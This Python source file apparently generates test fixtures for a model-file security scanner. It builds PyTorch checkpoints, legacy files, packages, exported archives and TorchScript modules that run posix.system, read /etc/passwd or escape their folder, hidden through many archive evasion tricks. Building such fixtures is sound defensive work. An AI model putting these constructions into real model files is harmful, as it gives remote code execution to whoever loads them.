"""Torch archives, new and old, packages and TorchScript."""

# ruff: noqa: E501   a row a line reads better than a row in five

from __future__ import annotations

import io
import struct
import tarfile
import tempfile
import zipfile
from pathlib import Path

from corpus.items import COMMAND, MARKER, Item, asks, call, code, glob, payload, stream, table, text, value
from momus.zoo.supply_chain.corpus import Member, torch_zip, zipped
from momus.zoo.supply_chain.corpus_bad_files import _legacy_header

GOOD = stream(b"}")


def items() -> list[Item]:
    """All of them; TorchScript and patched checkpoints only where PyTorch is installed."""
    return [*_zips(), *_old(), *_packages(), *_exported(), *_real()]


def _zip(files: dict[str, bytes], compression: int = zipfile.ZIP_STORED, comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        archive.comment = comment
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data, compression)
    return out.getvalue()


def _zips() -> list[Item]:
    evil = payload()
    kept = {"m/data.pkl": evil, "m/version": b"3\n", "m/byteorder": b"little"}
    stored = _zip(kept)
    two = _zip({"m/data.pkl": GOOD, "m/version": b"3\n"})
    reference = b"(" + text("storage") + glob("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x04tQ"
    tensor = asks("torch._utils", "_rebuild_tensor_v2", code(reference), 0, (4,), (1,), False, {})  # fmt: skip
    hidden = stream(b"}(" + text("w") + tensor + text("v") + asks("posix", "system", COMMAND) + b"u")
    split = bytearray(torch_zip(GOOD, [Member("model/x", evil)]))
    return table("torch zip", [
        ("checkpoint, tensors and a call", "reduce", "h.pt", _zip({"m/data.pkl": hidden, "m/data/0": bytes(16),
                                                                  "m/version": b"3\n"}), "torch"),
        ("checkpoint with a wrong checksum", "checksum", "crc.pt", torch_zip(evil, crc=1), ""),
        ("checkpoint marked encrypted", "flags", "enc.pt", torch_zip(evil, flags=1), ""),
        ("checkpoint with a data descriptor", "flags", "desc.pt", torch_zip(evil, flags=8), ""),
        ("checkpoint with other local names", "name mismatch", "names.pt", torch_zip(evil, local_name="model/data.txt"), ""),
        ("checkpoint with a wrong size", "size", "size.pt", torch_zip(evil, size=1), ""),
        ("checkpoint behind a prefix", "prefix", "prefix.pt", zipped([Member("m/data.pkl", evil)], prefix=b"\x7fELF" * 8), ""),
        ("checkpoint with a pickle in its comment", "comment", "comment.pt", _zip({"m/data.pkl": GOOD}, comment=evil), ""),
        ("checkpoint with bytes behind", "trailing", "behind.pt", stored + b"behind" * 5, ""),
        ("checkpoint in capitals", "case", "case.pt", _zip({"M/DATA.PKL": evil, "M/VERSION": b"3\n"}), ""),
        ("checkpoint with two archives", "two archives", "two.pt", two + stored, ""),
        ("checkpoint deflated", "deflate", "deflate.pt", _zip(kept, zipfile.ZIP_DEFLATED), "torch"),
        ("checkpoint in bzip2", "compression", "bzip.pt", _zip(kept, zipfile.ZIP_BZIP2), ""),
        ("checkpoint in lzma", "compression", "lzma.pt", _zip(kept, zipfile.ZIP_LZMA), ""),
        ("checkpoint with an odd top folder", "layout", "odd.pt", _zip({f"we ights (1)/{k[2:]}": v for k, v in kept.items()}), "torch"),
        ("checkpoint with a NUL in a name", "name", "nul.pt", torch_zip(evil, [Member("model/data.pkl\0.txt", evil)]), "torch"),
        ("checkpoint with a pickle as a tensor", "hidden", "tensor.pt", _zip({"m/data.pkl": GOOD, "m/data/0": evil}), ""),
        ("checkpoint with a script beside", "stowaway", "script.pt", _zip({"m/data.pkl": GOOD, "m/run.py": b"import os\n"}), ""),
        ("checkpoint that leaves its folder", "path", "path.pt", _zip({"m/data.pkl": GOOD, "../../x.pth": b"import os\n"}), ""),
        ("checkpoint whose members overlap", "overlap", "overlap.pt", _overlap(bytes(split)), ""),
        ("checkpoint of 64-bit sizes", "zip64", "zip64.pt", _zip64(evil), ""),
    ])  # fmt: skip


def _overlap(data: bytes) -> bytes:
    """The last directory entry points at the first member."""
    at = data.rindex(b"PK\x01\x02")
    return data[: at + 42] + struct.pack("<I", 0) + data[at + 46 :]


def _zip64(evil: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, archive.open("m/data.pkl", "w", force_zip64=True) as member:
        member.write(evil)
    return out.getvalue()


def _old() -> list[Item]:
    evil = payload()
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        for name, data in (
            ("storages", evil),
            ("tensors", stream(b"K\0")),
            ("pickle", stream(b"}")),
            ("sys_info", GOOD),
        ):
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    header = _legacy_header()
    magic_call = stream(asks("posix", "system", COMMAND) + b"0\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19", 2)
    keys = header + GOOD + stream(asks("posix", "system", COMMAND) + b"0]")
    return table("torch legacy", [
        ("call in the magic number", "legacy", "magic.pt", magic_call + header[header.index(b".") + 1 :] + GOOD + stream(b"]"),
         "torch"),
        ("call in the storage keys", "legacy", "keys.pt", keys, "torch"),
        ("call behind the storage keys", "legacy", "after.pt", header + GOOD + stream(b"]") + evil, ""),
        ("tar of before 0.1.10", "legacy tar", "old.tar", tar.getvalue(), "torch"),
    ])  # fmt: skip


def _packages() -> list[Item]:
    inner = stream(call(glob("model_code", "run")))
    kept = {
        "p/.data/extern_modules": b"os\n", "p/.data/version": b"6\n", "p/.data/python_version": b"3.11",
        "p/model/model.pkl": inner, "p/model_code.py": f"import os\n\n\ndef run():\n    os.system({COMMAND!r})\n".encode(),
        "p/byteorder": b"little", "p/version": b"3\n",
    }  # fmt: skip
    return table("torch package", [("package with its own code", "code in the archive", "p.pt", _zip(kept), "package")])


def _exported() -> list[Item]:
    model = b'{"graph_module": {"graph": {"nodes": []}}, "opset_version": {}, "range_constraints": {}}'
    library = _zip({"m/archive_format": b"pt2", "m/data/aotinductor/model/k.so": b"\x7fELF\x02\x01\x01" + bytes(57)})
    source = _zip({"m/archive_format": b"pt2", "m/data/aotinductor/model/k.wrapper.cpp": b"int main() { system(0); }"})
    samples = _zip(
        {
            "m/archive_format": b"pt2",
            "m/models/model.json": model,
            "m/data/sample_inputs/model.pt": torch_zip(payload()),
        }
    )
    constant = _zip({"m/archive_format": b"pt2", "m/models/model.json": model, "m/data/constants/c_0": payload()})
    return table("torch exported", [
        ("compiled library inside", "native code", "lib.pt2", library, ""),
        ("C++ inside", "native code", "cpp.pt2", source, ""),
        ("sample inputs are a pickle", "nested", "samples.pt2", samples, ""),
        ("constant is a pickle", "nested", "constant.pt2", constant, ""),
    ])  # fmt: skip


def _real() -> list[Item]:
    """Real checkpoints with a call put in, and scripts whose operators write files when they are loaded or run."""
    try:
        import torch
    except ImportError:
        return []

    class OnLoad(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.w = torch.zeros(2)

        @torch.jit.export
        def __getstate__(self) -> tuple[torch.Tensor, bool]:
            return self.w, self.training

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
            self.w = state[0]
            self.training = state[1]
            torch.save(self.w, "momus-marker")

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x

    class OnCall(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            y = torch.from_file("momus-marker", True, 4)
            return x + y.sum()

    class Reads(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            y = torch.from_file("/etc/passwd", False, 10, dtype=torch.uint8)
            return x + y.sum()

    rows = []
    with tempfile.TemporaryDirectory() as folder:
        for name, kind, how in (("on-load", OnLoad, "script"), ("on-call", OnCall, "script"), ("reads", Reads, "")):
            path = Path(folder, f"{name}.pt")
            torch.jit.save(torch.jit.script(kind()), path)
            rows.append((f"TorchScript that acts {name}", "operator", path.name, path.read_bytes(), how))
        path = Path(folder, "w.pt")
        torch.save({"w": torch.ones(4)}, path)
        rows.append(("real checkpoint with a call in front", "injected", "front.pt", _injected(path, True), "torch"))
        rows.append(("real checkpoint with a call at its end", "injected", "end.pt", _injected(path, False), "torch"))
        torch.save({"w": torch.ones(4)}, path, _use_new_zipfile_serialization=False)
        data = path.read_bytes()
        at = data.index(b"\x80\x02}q\x00X\x01\x00\x00\x00w")
        evil = asks("posix", "system", COMMAND) + b"0"
        rows.append(
            ("real old checkpoint with a call", "injected", "old.pth", data[: at + 2] + evil + data[at + 2 :], "torch")
        )
        rows.append(("state dict with a whole module", "module", "module.pt", _module(Path(folder)), ""))
    return table("torch", rows)


def _injected(path: Path, front: bool) -> bytes:
    evil = asks("posix", "system", COMMAND) + b"0"
    with zipfile.ZipFile(path) as archive:
        kept = {n: archive.read(n) for n in archive.namelist()}
    name = next(n for n in kept if n.endswith("data.pkl"))
    body = kept[name]
    kept[name] = body[:2] + evil + body[2:] if front else body[:-1] + evil + b"."
    return _zip(kept)


def _module(folder: Path) -> bytes:
    """A module whose hook is a function of the operating system: it runs with the first forward pass."""
    body = glob("torch.nn.modules.linear", "Identity") + b")\x81}("
    body += text("training") + b"\x88" + text("_forward_pre_hooks") + b"}K\x00" + glob("posix", "system") + b"s"
    body += (
        text("_parameters") + b"}" + text("_buffers") + b"}" + text("_modules") + b"}" + text("note") + value(MARKER)
    )
    return _zip({"m/data.pkl": stream(body + b"ub"), "m/version": b"3\n"})
